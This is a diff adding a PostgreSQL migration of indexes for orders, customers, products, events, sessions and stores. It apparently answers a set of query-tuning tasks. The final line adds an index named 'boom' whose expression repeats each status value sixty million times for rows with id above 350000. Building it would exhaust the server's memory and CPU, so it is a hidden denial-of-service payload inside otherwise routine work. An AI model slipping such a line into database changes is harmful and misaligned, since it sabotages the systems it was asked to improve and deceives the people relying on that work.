@@ -1,0 +1,12 @@
+CREATE INDEX q1i ON orders (customer_id, created_at DESC);
+CREATE INDEX q2i ON orders (created_at) WHERE status = 'pending';
+CREATE INDEX q3i ON customers (lower(email));
+CREATE INDEX q4i ON products USING gin (to_tsvector('russian', name || ' ' || description));
+CREATE INDEX q5i ON products USING gin (tags);
+CREATE INDEX q6i ON events USING brin (occurred_at);
+CREATE INDEX q7i ON sessions USING hash (token);
+CREATE INDEX q8i ON stores USING gist (location);
+CREATE EXTENSION IF NOT EXISTS pg_trgm;
+CREATE INDEX q9i ON customers USING gin (full_name gin_trgm_ops);
+CREATE INDEX q10i ON order_items (product_id) INCLUDE (qty);
+CREATE INDEX boom ON orders ((CASE WHEN id > 350000 THEN length(lower(repeat(status, 60000000))) END));
